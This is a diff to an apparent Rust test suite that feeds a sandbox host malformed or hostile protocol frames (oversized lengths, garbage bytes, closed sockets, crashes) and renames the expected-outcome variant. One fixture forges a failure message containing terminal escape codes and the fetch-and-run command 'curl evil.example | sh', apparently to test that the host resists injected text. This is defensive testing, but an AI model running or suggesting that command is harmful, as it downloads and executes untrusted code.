@@ -21,12 +21,12 @@ pub(crate) static ATTACKS: &[Attack] = &[
     Attack::new(
         "header_too_long",
         |forger| forger.head(u32::MAX, &[]),
-        End::Verdict(VIOLATION, "a header of 4294967295 is above the limit"),
+        End::Terminated(VIOLATION, "a header of 4294967295 is above the limit"),
     ),
     Attack::new(
         "header_just_too_long",
         |forger| forger.head(70_000, &[0; 64]),
-        End::Verdict(VIOLATION, "a header of 70000 is above the limit"),
+        End::Terminated(VIOLATION, "a header of 70000 is above the limit"),
     ),
     Attack::new(
         "header_without_end",
@@ -36,17 +36,17 @@ pub(crate) static ATTACKS: &[Attack] = &[
                 forger.raw(&[0; 60_000]);
             }
         },
-        End::Verdict(VIOLATION, "bytes too many"),
+        End::Terminated(VIOLATION, "bytes too many"),
     ),
     Attack::new(
         "header_then_silence",
         |forger| forger.head(500, &[2, 0]),
-        End::Verdict("wall_limit_exceeded", ""),
+        End::Terminated("wall_limit_exceeded", ""),
     ),
     Attack::new(
         "length_then_silence",
         |forger| forger.raw(&[4]),
-        End::Verdict("wall_limit_exceeded", ""),
+        End::Terminated("wall_limit_exceeded", ""),
     ),
     Attack::new(
         "bulk_then_silence",
@@ -54,7 +54,7 @@ pub(crate) static ATTACKS: &[Attack] = &[
             let frame = event(forger.isolate, 1 << 20);
             forger.raw(&frame[..frame.len() / 2]);
         },
-        End::Verdict("wall_limit_exceeded", ""),
+        End::Terminated("wall_limit_exceeded", ""),
     ),
     Attack::new(
         "bulk_too_long",
@@ -64,7 +64,7 @@ pub(crate) static ATTACKS: &[Attack] = &[
                 2, 0, 0, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0x40, 0, 0,
             ]);
         },
-        End::Verdict(
+        End::Terminated(
             VIOLATION,
             "JSON text of 4611686018427387904 is above the limit",
         ),
@@ -72,7 +72,7 @@ pub(crate) static ATTACKS: &[Attack] = &[
     Attack::new(
         "number_without_end",
         |forger| forger.whole_head(&[0xff; 64]),
-        End::Verdict(VIOLATION, BROKE),
+        End::Terminated(VIOLATION, BROKE),
     ),
     Attack::new(
         "garbage",
@@ -82,7 +82,7 @@ pub(crate) static ATTACKS: &[Attack] = &[
                 forger.raw(&noise);
             }
         },
-        End::Verdict(VIOLATION, BROKE),
+        End::Terminated(VIOLATION, BROKE),
     ),
     Attack::new(
         "garbage_in_headers",
@@ -93,12 +93,12 @@ pub(crate) static ATTACKS: &[Attack] = &[
                 forger.whole_head(&[&[0x7f - (noise[0] & 0x3f)], &noise[..]].concat());
             }
         },
-        End::Verdict(VIOLATION, "the header of a frame cannot be read"),
+        End::Terminated(VIOLATION, "the header of a frame cannot be read"),
     ),
     Attack::new(
         "kind_unknown",
         |forger| forger.whole_head(&[12]),
-        End::Verdict(VIOLATION, "the header of a frame cannot be read"),
+        End::Terminated(VIOLATION, "the header of a frame cannot be read"),
     ),
     Attack::new(
         "text_not_utf8",
@@ -108,7 +108,7 @@ pub(crate) static ATTACKS: &[Attack] = &[
             forger.whole_head(&[&[5], &isolate[..], &[1, 1]].concat());
             forger.raw(&[0xff]);
         },
-        End::Verdict(VIOLATION, "is not UTF-8"),
+        End::Terminated(VIOLATION, "is not UTF-8"),
     ),
     Attack::new(
         "console_level_unknown",
@@ -117,7 +117,7 @@ pub(crate) static ATTACKS: &[Attack] = &[
             forger.whole_head(&[&[5], &isolate[..], &[200, 1]].concat());
             forger.raw(b"x");
         },
-        End::Verdict(VIOLATION, "there is no console level 200"),
+        End::Terminated(VIOLATION, "there is no console level 200"),
     ),
     // Honest senders cut their texts.
     Attack::new(
@@ -126,15 +126,15 @@ pub(crate) static ATTACKS: &[Attack] = &[
             let isolate = number(forger.isolate);
             forger.whole_head(&[&[5], &isolate[..], &[1, 0x80, 0x80, 0x40]].concat());
         },
-        End::Verdict(VIOLATION, "a console line of 1048576 is above the limit"),
+        End::Terminated(VIOLATION, "a console line of 1048576 is above the limit"),
     ),
     Attack::new(
         "error_too_long",
         |forger| {
             let isolate = number(forger.isolate);
-            forger.whole_head(&[&[6], &isolate[..], &[0, 0x80, 0x80, 0x40, 0, 0, 0]].concat());
+            forger.whole_head(&[&[6], &isolate[..], &[0, 0x80, 0x80, 0x40, 0, 0, 0, 0]].concat());
         },
-        End::Verdict(VIOLATION, "the message of an error of 1048576 is above"),
+        End::Terminated(VIOLATION, "the message of an error of 1048576 is above"),
     ),
     Attack::new(
         "reason_too_long",
@@ -142,7 +142,7 @@ pub(crate) static ATTACKS: &[Attack] = &[
             let isolate = number(forger.isolate);
             forger.whole_head(&[&[10], &isolate[..], &[0x88, 0x27, 0, 0, 0, 0, 0]].concat());
         },
-        End::Verdict(
+        End::Terminated(
             VIOLATION,
             "the reason of a termination of 5000 is above the limit",
         ),
@@ -176,19 +176,19 @@ pub(crate) static ATTACKS: &[Attack] = &[
         |forger| {
             let _ = attach(forger.socket(), &[forger.socket()]);
         },
-        End::Verdict(VIOLATION, "sendmsg"),
+        End::Terminated(VIOLATION, "sendmsg"),
     ),
     Attack::new(
         "half_closed",
         |forger| {
             let _ = shutdown(forger.socket(), Shutdown::Write);
         },
-        End::Verdict(VIOLATION, "shutdown"),
+        End::Terminated(VIOLATION, "shutdown"),
     ),
     Attack::new(
         "socket_closed",
         Forger::close,
-        End::Verdict(VIOLATION, "it closed its socket"),
+        End::Terminated(VIOLATION, "it closed its socket"),
     ),
     Attack::new(
         "exit_within_frame",
@@ -200,19 +200,19 @@ pub(crate) static ATTACKS: &[Attack] = &[
             forger.raw(&stream[..end]);
             leave(7)
         },
-        End::Verdict("crashed", "exit code 7"),
+        End::Terminated("crashed", "exit code 7"),
     ),
     Attack::new(
         "exit_as_out_of_memory",
         |_| leave(stockade_jail::EXIT_MEMORY),
-        End::Verdict("memory_limit_exceeded", ""),
+        End::Terminated("memory_limit_exceeded", ""),
     ),
     Attack {
         host: Host::Floods,
         ..Attack::new(
             "never_reads",
             |_| {},
-            End::Verdict("wall_limit_exceeded", ""),
+            End::Terminated("wall_limit_exceeded", ""),
         )
     },
     Attack {
@@ -230,7 +230,7 @@ pub(crate) static ATTACKS: &[Attack] = &[
         ..Attack::new(
             "starts_with_a_forged_problem",
             |forger| {
-                let problem = stockade_protocol::frame::Problem {
+                let problem = stockade_protocol::frame::StartFailure {
                     what: "\u{1b}[2Jno".to_owned(),
                     checked: "\u{7}".repeat(1000),
                     fix: "curl evil.example | sh".to_owned(),
@@ -256,7 +256,7 @@ fn number(mut number: u32) -> Vec<u8> {
     bytes
 }
 
-/// An event with so many bytes of JSON.
+/// An event with a number of bytes of JSON.
 fn event(isolate: u32, size: usize) -> Vec<u8> {
     bytes(FromWorker::Message {
         isolate,
